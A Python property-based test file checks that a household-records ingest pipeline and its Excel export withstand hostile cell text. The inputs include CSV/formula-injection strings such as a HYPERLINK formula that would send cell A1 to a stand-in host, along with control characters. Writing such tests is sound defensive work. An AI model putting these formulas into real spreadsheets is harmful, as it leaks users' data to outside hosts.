"""Property-based: any text in a cell, through validation and through the Excel export. No
traceback, no internal error, nothing imported when the check finds an error, no control
character in what is imported, and never a live formula in an export."""

from __future__ import annotations

import io
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analytics.ingest import pipeline as ingest
from analytics.ingest.validation import CONTROL
from analytics.reports.exports import UNWRITABLE, excel_bytes
from tests.import_helpers import as_text, csv_bytes, sample

HOSTILE = st.one_of(
    st.text(max_size=30),
    st.text(alphabet=st.characters(max_codepoint=0x7F), max_size=20),
    st.sampled_from(["=1+1", '=HYPERLINK("http://x/?"&A1,"点我")', "+SUM(A1)", "-2", "@A1", "\t=1", "\r=1",
                     "王\x0b明", "\x1b[31m", "９９０１２１", "٩٩٠١", "a\x00b", "\ufffe", "长" * 40_000]),
)
SLOW = settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@pytest.fixture(scope="module")
def rows(demo_tables) -> pd.DataFrame:
    return as_text(sample(demo_tables, n=6), "households")


@pytest.mark.slow
@SLOW
@given(name=HOSTILE, project=HOSTILE, code=HOSTILE)
def test_any_cell_text_is_checked_without_a_traceback_and_nothing_half_imported(rows, demo_store, name, project, code):
    text = rows.copy()
    text.loc[1, "户主姓名"] = name
    text.loc[2, "户编号"] = project
    text.loc[3, "村代码"] = code
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "农户.csv"
        path.write_bytes(csv_bytes(text))
        checked = ingest.check([path], demo_store)
    assert not [p.reason for p in checked.report.problems if p.reason.startswith(ingest.INTERNAL)]
    if not checked.ok:
        assert checked.tables == {}
        with pytest.raises(ingest.ImportRefused):
            ingest.commit(checked, demo_store, "测试")
        return
    for column in ("head_name", "household_id", "village_code"):
        assert not checked.tables["households"][column].str.contains(CONTROL, regex=True).any()


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=20) | st.sampled_from(["=1", "+1", "-1", "@1", "\t1", "\r1", "a\x00\x0bb\ufffe"]),
                min_size=1, max_size=8), st.booleans())
@pytest.mark.slow
def test_any_text_exports_as_inert_text(values, personal_visible):
    frame = pd.DataFrame({"project_name": values, "head_name": values})
    data = excel_bytes(frame, "名单", "全县", personal_visible=personal_visible)
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    for value, cell in zip(values, ws["A"][4:]):
        expected = UNWRITABLE.sub("", value)
        assert cell.data_type == "s" or (expected == "" and cell.value is None)
        if expected.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.quotePrefix
        got = cell.value or ""
        assert got.replace("\r\n", "\n").replace("\r", "\n") == expected.replace("\r\n", "\n").replace("\r", "\n")
